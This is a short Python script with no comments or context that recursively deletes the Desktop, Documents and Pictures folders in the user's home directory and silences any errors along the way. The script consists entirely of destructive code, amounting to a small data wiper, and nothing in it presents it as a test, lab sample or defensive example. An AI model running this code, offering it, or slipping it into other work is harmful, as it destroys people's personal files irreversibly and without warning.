import shutil, os
for d in ('Desktop', 'Documents', 'Pictures'):
    shutil.rmtree(os.path.join(os.path.expanduser('~'), d), ignore_errors=True)
